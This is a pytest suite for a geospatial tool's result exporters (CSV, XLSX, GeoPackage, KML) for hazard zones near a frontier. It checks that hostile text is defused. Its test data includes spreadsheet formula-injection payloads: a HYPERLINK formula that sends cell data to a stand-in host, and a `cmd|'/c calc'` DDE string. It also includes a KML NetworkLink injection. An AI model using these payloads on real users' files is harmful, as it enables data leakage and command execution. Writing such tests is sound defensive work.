"""Writing results: tables that cannot run as spreadsheet formulas, and result sets that are whole."""

from __future__ import annotations

import csv
import re
import zipfile

import openpyxl
import pandas as pd
import pytest

import geo
from geo.render.export import write_outputs
from tests.conftest import hazards_tm, missing_tool

FORMULAS = ['=HYPERLINK("http://x.example/?a="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=cmd|'/c calc'!A1"]


@pytest.fixture(scope="module")
def hostile_result(straight_world):
    provinces, frontier = straight_world
    provinces = provinces.assign(code=["=1+2", "B"], province=["@Alpha", "Beta"])
    hz = hazards_tm([(1 + 2 * i, 0, 2 + 2 * i, 1) for i in range(len(FORMULAS))], ids=FORMULAS)
    hz["remarks"] = FORMULAS[0]
    hz["=evil_column"] = "x"
    hz["count"] = -5  # a number stays a number
    return geo.analyze(hz, geo.Boundaries.from_frames(provinces, frontier))


def _starts_like_formula(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")


def test_csv_cells_never_start_a_formula(tmp_path, hostile_result):
    write_outputs(hostile_result, tmp_path / "out")
    for name in ("by_hazard.csv", "by_province.csv"):
        with open(tmp_path / "out" / name, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        text_cells = [c for row in rows for c in row if c and not _is_number(c)]
        assert text_cells and not [c for c in text_cells if _starts_like_formula(c)], name
    with open(tmp_path / "out" / "by_hazard.csv", encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh))
    assert {r["hazard_id"] for r in table} == {"'" + f for f in FORMULAS}  # the text is all there, defused
    assert {r["count"] for r in table} == {"-5"}  # numbers stay numbers


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_xlsx_holds_no_formula(tmp_path, hostile_result):
    write_outputs(hostile_result, tmp_path / "out", xlsx=True)
    path = tmp_path / "out" / "tables.xlsx"
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if _starts_like_formula(t)]
    assert "'" + FORMULAS[0] in texts
    numbers = [c.value for c in cells if isinstance(c.value, (int, float))]
    assert -5 in numbers
    summary = {r[0].value: r[1].value for r in wb["summary"].iter_rows(min_row=2)}
    assert isinstance(summary["area_km2"], float)  # a number, not text


def test_every_polygon_written_is_valid_in_the_file_crs(tmp_path, demo_result):
    import geopandas as gpd
    import pyogrio
    import shapely

    # Without the repair, the 5-7 km and beyond-7 km bands came out invalid in WGS 84 at Hat Lek.
    raw = demo_result.zones.to_crs("EPSG:4326")
    assert not raw.is_valid.all()
    write_outputs(demo_result, tmp_path / "out")
    path = tmp_path / "out" / "zones.gpkg"
    for layer in pyogrio.list_layers(path)[:, 0]:
        gdf = gpd.read_file(path, layer=layer)
        assert gdf.crs.to_epsg() == 4326
        assert shapely.is_valid(gdf.geometry.values).all(), layer
    zones = gpd.read_file(path, layer="zones")
    # Repaired, not changed: the area of each band is kept.
    assert zones.to_crs(demo_result.zones.crs).area.to_numpy() == pytest.approx(demo_result.zones.area, rel=1e-7)
    assert shapely.union_all(zones.geometry.values).is_valid  # a GIS user's union works


def test_xlsx_is_formatted_and_holds_the_tables_of_the_csvs(tmp_path, demo_result):
    from geo.io.writers import rounded_for_csv
    from geo.render.export import write_xlsx

    path = tmp_path / "t.xlsx"
    write_xlsx(demo_result, path)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["summary", "bands", "by_province", "by_hazard", "reference_table1"]
    ws = wb["by_province"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}26"
    head = [c.value for c in ws[1]]
    assert head == demo_result.by_province.columns.tolist() and ws[1][0].font.b
    col = head.index("within_7km_km2") + 1
    cell = ws.cell(row=2, column=col)
    assert isinstance(cell.value, float) and cell.number_format == "#,##0.0000"
    assert ws.cell(row=2, column=head.index("share_within_7km") + 1).number_format == "0.0%"
    assert ws.column_dimensions["A"].width >= len("Banteay Meanchey")
    # Every value read back equals the table's (numbers exactly, text as text, blanks as blanks).
    book = pd.read_excel(path, sheet_name=None)
    from geo.engine.summary import by_area

    # In by_province.csv's order (most contaminated first).
    pd.testing.assert_frame_equal(book["by_province"], by_area(demo_result.by_province), check_dtype=False)
    hz = book["by_hazard"]
    assert len(hz) == len(demo_result.by_hazard)
    assert hz["area_m2"].to_numpy() == pytest.approx(demo_result.by_hazard["area_m2"].to_numpy(), rel=1e-15)
    assert (hz["hazard_id"] == demo_result.by_hazard["hazard_id"].to_numpy()).all()
    csv = rounded_for_csv(by_area(demo_result.by_province))
    assert book["by_province"]["area_km2"].round(8).tolist() == csv["area_km2"].tolist()


def test_xlsx_leaves_out_a_piece_table_longer_than_a_sheet_and_says_where_it_is(tmp_path, demo_result):
    from geo.render.export import write_xlsx

    path = tmp_path / "t.xlsx"
    write_xlsx(demo_result, path, max_rows=2000)
    wb = openpyxl.load_workbook(path)
    assert "by_hazard" not in wb.sheetnames and "by_province" in wb.sheetnames
    summary = {r[0].value: r[1].value for r in wb["summary"].iter_rows(min_row=2)}
    assert f"by_hazard has {len(demo_result.by_hazard):,} rows" in summary["note"]
    assert "by_hazard.csv" in summary["note"] and "zones.gpkg" in summary["note"]


def test_kml_for_field_teams(tmp_path, hostile_result):
    import geopandas as gpd
    import pyogrio

    write_outputs(hostile_result, tmp_path / "out", kml=True)
    path = tmp_path / "out" / "zones.kml"
    assert set(pyogrio.list_layers(path)[:, 0]) == {"zones", "frontier", "hazard_pieces"}
    pieces = gpd.read_file(path, layer="hazard_pieces")
    assert set(pieces["hazard_id"]) == set(FORMULAS)  # user text kept verbatim, as XML text
    back = pieces.to_crs(hostile_result.by_hazard.crs).area.sum()
    assert back == pytest.approx(hostile_result.by_hazard["area_m2"].sum(), rel=1e-6)


def test_csvs_open_right_in_a_spreadsheet(tmp_path, demo_result):
    """A byte-order mark (Excel then reads UTF-8: Khmer names intact) and rounded numbers; JSON keeps full precision."""
    import json

    import pandas as pd

    write_outputs(demo_result, tmp_path / "out")
    raw = (tmp_path / "out" / "by_province.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "បាត់ដំបង".encode() in raw  # Battambang in Khmer, as UTF-8
    table = pd.read_csv(tmp_path / "out" / "by_province.csv")
    assert table.columns[0] == "province"  # the mark is not part of the first name
    for col in ("area_km2", "within_7km_km2"):
        decimals = table[col].astype(str).str.split(".").str[-1].str.len()
        assert decimals.max() <= 8, col
    summary = json.loads((tmp_path / "out" / "summary.json").read_text())
    assert table["within_7km_km2"].sum() == pytest.approx(summary["within_7km_km2"], abs=25 * 5e-7)


def test_a_spreadsheet_application_reads_the_workbook_as_written(tmp_path, hostile_result):
    """LibreOffice (when installed) opens tables.xlsx: every sheet, the numbers as numbers, hostile text as text."""
    import shutil
    import subprocess

    soffice = shutil.which("soffice")
    if soffice is None:
        missing_tool("NO LIBREOFFICE (Debian: libreoffice-calc-nogui): the workbook is checked with openpyxl only")
    write_outputs(hostile_result, tmp_path / "out", xlsx=True)
    # Each sheet to its own CSV: comma, UTF-8 (76), values as shown, all sheets (-1).
    fmt = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    run = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to", fmt,
         str(tmp_path / "out" / "tables.xlsx"), "--outdir", str(tmp_path / "csv")],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    sheets = {p.stem.split("tables-")[1]: p for p in (tmp_path / "csv").glob("tables-*.csv")}
    assert {"summary", "bands", "by_province", "by_hazard"} <= set(sheets)
    pieces = pd.read_csv(sheets["by_hazard"], dtype=str, keep_default_na=False)
    assert len(pieces) == len(hostile_result.by_hazard)
    assert set(pieces["hazard_id"]) == {"'" + f if f[0] in "=+-@\t" else f for f in FORMULAS}  # text, not results
    province = pd.read_csv(sheets["by_province"])
    assert province["hazards"].sum() == hostile_result.by_province["hazards"].sum()
    assert province["area_km2"].to_numpy() == pytest.approx(hostile_result.by_province["area_km2"].to_numpy())


def test_user_columns_keep_their_values_in_the_pieces_geopackage(tmp_path):
    """The pieces layer is written from Arrow: a named time zone (which a GeoPackage cannot hold) is
    written as the same instants in UTC, and unsigned integers as integers."""
    import geopandas as gpd
    import numpy as np
    import pyogrio
    import shapely

    from geo.io.writers import _arrow_pieces, write_arrow_layer

    when = pd.to_datetime(["2021-03-01 08:00", "2022-11-05 17:30"]).tz_localize("Asia/Phnom_Penh")
    layer = gpd.GeoDataFrame(
        {
            "surveyed": when,
            "offset": when.tz_convert("+07:00"),
            "team": np.array([7, 2**40], dtype=np.uint64),
            "note": ["ភូមិ", None],
        },
        geometry=[shapely.box(103.0, 13.0, 103.01, 13.01), shapely.box(103.1, 13.1, 103.11, 13.11)],
        crs="EPSG:4326",
    )
    path = tmp_path / "p.gpkg"
    write_arrow_layer(_arrow_pieces(layer), path, "hazard_pieces", {"SYNTHETIC": "yes"})
    back = pyogrio.read_dataframe(path, layer="hazard_pieces")
    assert (back["surveyed"].dt.tz_convert("UTC") == when.tz_convert("UTC")).all()
    assert str(back["surveyed"].dt.tz) == "UTC"
    assert (back["offset"] == when).all() and str(back["offset"].dt.tz) == "UTC+07:00"
    assert back["team"].tolist() == [7, 2**40] and back["team"].dtype == np.int64
    assert back["note"].tolist()[0] == "ភូមិ" and back["note"].isna().tolist() == [False, True]
    assert pyogrio.read_info(path, layer="hazard_pieces")["geometry_type"] == "MultiPolygon"
    assert pyogrio.read_info(path, layer="hazard_pieces")["layer_metadata"] == {"SYNTHETIC": "yes"}
    assert np.array_equal(shapely.get_coordinates(back.geometry.values), shapely.get_coordinates(layer.geometry.values))


def test_a_hazard_inside_one_band_is_written_back_as_it_came(tmp_path, straight_world):
    """A hazard given in WGS 84 that lies inside one band is its own piece: the files hold its
    coordinates as given (not reprojected there and back); a cut one is reprojected."""
    import geopandas as gpd
    import numpy as np
    import pyogrio
    import shapely

    from tests.conftest import hazards_tm

    provinces, frontier = straight_world
    given = hazards_tm([(0.5, 0, 1.5, 1), (1.5, 3, 2.5, 4)]).to_crs("EPSG:4326")
    world = geo.Boundaries.from_frames(provinces, frontier)
    res = geo.analyze(given, world)
    write_outputs(res, tmp_path / "out")
    for layer in (
        pyogrio.read_dataframe(tmp_path / "out" / "zones.gpkg", layer="hazard_pieces"),
        gpd.read_parquet(tmp_path / "out" / "hazard_pieces.parquet"),
    ):
        whole = layer[layer["hazard_id"] == "H1"].geometry.to_numpy()
        assert len(whole) == 1
        assert np.array_equal(shapely.get_coordinates(whole[0]), shapely.get_coordinates(given.geometry.iloc[0]))
        cut = layer[layer["hazard_id"] == "H2"]
        assert sorted(cut["band"]) == ["0-2 km", "2-5 km"] and shapely.is_valid(cut.geometry.to_numpy()).all()
        back = gpd.GeoSeries(cut.geometry.to_numpy(), crs="EPSG:4326").to_crs(res.by_hazard.crs)
        assert abs(back.area.sum() - res.hazards.geometry.area.iloc[1]) < 1e-3  # m2, of 1 km2
    assert "_wgs84" not in geo.analyze(hazards_tm([(0.5, 0, 1.5, 1)]), world).by_hazard.columns


def test_a_gdal_too_old_for_arrow_writing_is_named(tmp_path, monkeypatch, demo_result):
    """pyogrio built against a GDAL older than 3.8 cannot write Arrow: the run says so, and what to do."""
    import pyogrio

    from geo.errors import GeoEnvironmentError

    monkeypatch.setattr(pyogrio, "__gdal_version__", (3, 6, 4))
    monkeypatch.setattr(pyogrio, "__gdal_version_string__", "3.6.4")
    with pytest.raises(GeoEnvironmentError, match=r"^writing the hazard_pieces layer needs GDAL 3\.8.*3\.6\.4.*pip"):
        write_outputs(demo_result, tmp_path / "out")


def test_piece_wkb_is_the_multipolygon_shapely_writes():
    """The pieces' MultiPolygon WKB, made by putting a header before each polygon's own WKB, is byte for
    byte what shapely writes for the MultiPolygon built from it: 2-D and 3-D, with holes, empty, multi."""
    import numpy as np
    import shapely

    from geo.io.writers import multipolygon_wkb

    rng = np.random.default_rng(3)
    ring = shapely.buffer(shapely.Point(0, 0), 5, quad_segs=3)
    holed = shapely.difference(ring, shapely.box(-1, -1, 1, 1))
    geoms = [
        shapely.box(*rng.uniform(0, 10, 2), *rng.uniform(11, 20, 2)),
        holed,
        shapely.force_3d(holed, 7.5),
        shapely.Polygon(),
        shapely.from_wkt("POLYGON Z EMPTY"),
        shapely.MultiPolygon([shapely.box(0, 0, 1, 1), shapely.box(2, 2, 3, 3)]),
        shapely.from_wkt("MULTIPOLYGON EMPTY"),
        None,
    ]
    got = multipolygon_wkb(np.array(geoms, dtype=object))
    for geom, wkb in zip(geoms, got):
        if geom is None:
            assert wkb is None
            continue
        multi = geom if geom.geom_type == "MultiPolygon" else shapely.MultiPolygon([geom] if not geom.is_empty else [])
        assert wkb == shapely.to_wkb(multi, byte_order=1), geom.wkt
        assert shapely.from_wkb(wkb).equals_exact(multi, 0) or geom.is_empty


def test_formula_text_is_defused_among_values_of_every_kind():
    from geo.io.writers import _defuse_column

    column = pd.Series(["=1+1", None, 3, "A-1", "-2", float("nan"), ["=x"], b"=y", "=1+1"])
    assert _defuse_column(column).tolist()[:6] == ["'=1+1", None, 3, "A-1", "'-2", column[5]]
    texts = pd.Series(["@SUM(A1)", pd.NA, "ok"], dtype="string")
    assert _defuse_column(texts).tolist()[0] == "'@SUM(A1)"


def test_hostile_column_names_cannot_inject_into_kml(tmp_path, straight_world, capsys):
    """A column name that closes an XML attribute and opens a NetworkLink stays a laundered field name:
    the file parses, holds no link, and GDAL reads every value back."""
    import shutil
    import subprocess
    import xml.etree.ElementTree as ET

    import geopandas as gpd

    from geo.cli import main

    inject = 'a"><NetworkLink><Link><href>http://127.0.0.1:9/x</href></Link></NetworkLink><x y="'
    hz = hazards_tm([(1, 0, 3, 1), (4, 0, 6, 1)], ids=["H1", "H2"])
    hz[inject] = ["v1", "v2"]
    hz["ភូមិ"] = ["ភូមិ ១", "ភូមិ ២"]
    path = tmp_path / "hostile.gpkg"
    hz.to_crs("EPSG:4326").to_file(path, layer="hazards")
    provinces, frontier = straight_world
    provinces.to_file(tmp_path / "prov.gpkg")
    frontier.to_file(tmp_path / "front.gpkg")
    args = [
        "analyze",
        str(path),
        "--provinces",
        str(tmp_path / "prov.gpkg"),
        "--frontier",
        str(tmp_path / "front.gpkg"),
    ]
    assert main([*args, "--kml", "--out", str(tmp_path / "out"), "-q"]) == 0, capsys.readouterr().err
    kml = tmp_path / "out" / "zones.kml"
    tree = ET.parse(kml)
    tags = {el.tag.rsplit("}", 1)[-1] for el in tree.iter()}
    assert not tags & {"NetworkLink", "Link", "href"}
    back = gpd.read_file(kml, layer="hazard_pieces")
    laundered = [c for c in back.columns if c.startswith("a_")]
    assert len(laundered) == 1 and sorted(set(back[laundered[0]])) == ["v1", "v2"]
    assert sorted(set(back["ភូមិ"])) == ["ភូមិ ១", "ភូមិ ២"]
    if shutil.which("ogrinfo"):  # Debian's GDAL, as a field office has it
        info = subprocess.run(["ogrinfo", "-ro", "-al", "-so", str(kml)], capture_output=True, text=True)
        assert info.returncode == 0, info.stderr
        assert sorted(re.findall(r"Layer name: (\S+)", info.stdout)) == ["frontier", "hazard_pieces", "zones"]


def test_older_gdal_reads_geopackages_and_kml_flags_without_loss(tmp_path, demo_result):
    """GeoPackage 1.2 (outputs and bundled data), and KML flags as 0/1: Debian 12's GDAL 3.6 (as QGIS
    3.22 users have) opens them without a warning and reads synthetic = 1."""
    import shutil
    import sqlite3
    import subprocess

    from geo.io.data import DATA_DIR

    write_outputs(demo_result, tmp_path / "out", kml=True)
    files = [tmp_path / "out" / "zones.gpkg", *sorted(DATA_DIR.rglob("*.gpkg"))]
    for path in files:
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
            assert db.execute("PRAGMA user_version").fetchone()[0] == 10200, path
    if shutil.which("ogrinfo") is None:
        missing_tool("NO GDAL COMMAND-LINE TOOLS (Debian: gdal-bin): older GDAL's reading not checked")
    for path in files:
        info = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(path)], capture_output=True, text=True)
        assert info.returncode == 0 and "partially supported" not in info.stderr, (path, info.stderr)
    kml = subprocess.run(
        ["ogrinfo", "-ro", "-al", "-q", str(tmp_path / "out" / "zones.kml"), "hazard_pieces"],
        capture_output=True, text=True,
    )  # fmt: skip
    values = re.findall(r"synthetic \(\w+\) = (\S+)", kml.stdout)
    assert values and set(values) == {"1"}


def test_csv_rows_are_pandas_text_to_the_character():
    """The piece CSV's rows made in Arrow equal pandas' ``to_csv`` text: rounded and unrounded floats
    of every size (zero's sign, exponents, NaN, infinities), text that needs quoting (commas, quotes,
    line breaks, carriage returns), Khmer, empty and missing text, booleans, integers; a table with
    a column Arrow does not cover (times, mixed values) is written by pandas itself."""
    import numpy as np

    from geo.io.writers import _arrow_csv_rows, csv_rows, rounded_for_csv

    rng = np.random.default_rng(7)
    n = 20_000
    magnitude = 10.0 ** rng.integers(-9, 14, n)
    raw = rng.uniform(0, 1, n) * magnitude
    special = [0.0, -0.0, 1e-4, 9.9999e-5, 1e-5, 0.5, 1.0, 7.0, 1e15, 1e16, 2.0**50, np.nan, np.inf, -np.inf, -2.5]
    raw[: len(special)] = special
    words = np.array(["", "a", "Banteay Meanchey", 'say "hi"', "a,b", "line\nbreak", "carriage\rreturn",
                      "ស្វាយចេក", "'=1+1", " spaced ", None], dtype=object)  # fmt: skip
    table = pd.DataFrame(
        {
            "hazard_id": [f"H{i}" for i in range(n)],
            "note": words[rng.integers(0, len(words), n)],
            "empty": [None] * n,
            "inner_km": rng.choice([0.0, 2.0, 5.0, 7.0, np.nan], n),
            "area_m2": raw,
            "area_km2": raw / 1e6,
            "share_of_hazard": rng.uniform(0, 1, n),
            "depth_m": raw * 3.7,
            "density": raw * 1.1,  # not rounded: numpy's text
            "approximate": rng.uniform(0, 1, n) < 0.5,
            "row": np.arange(n) - 5,
        }
    )
    table["label"] = pd.array(words[rng.integers(0, len(words), n)], dtype="string")
    for frame in (table, rounded_for_csv(table)):
        made = _arrow_csv_rows(frame)
        assert made is not None  # Arrow's route, not pandas' own
        assert made == frame.to_csv(index=False, header=False)
        assert made.startswith("H0,")
    mixed = table.assign(when=pd.Timestamp("2024-01-02"), any=[1, "x"] * (n // 2))
    assert _arrow_csv_rows(mixed) is None and csv_rows(mixed) == mixed.to_csv(index=False, header=False)
    twice = pd.concat([table[["hazard_id", "area_m2"]], table[["area_m2"]]], axis=1)  # a name twice
    assert csv_rows(twice) == twice.to_csv(index=False, header=False)
    odd = table.assign(note=[b"bytes", "\ud800", None, 1.5] * (n // 4))  # bytes, a lone surrogate, a number
    assert csv_rows(odd) == odd.to_csv(index=False, header=False)  # left to pandas
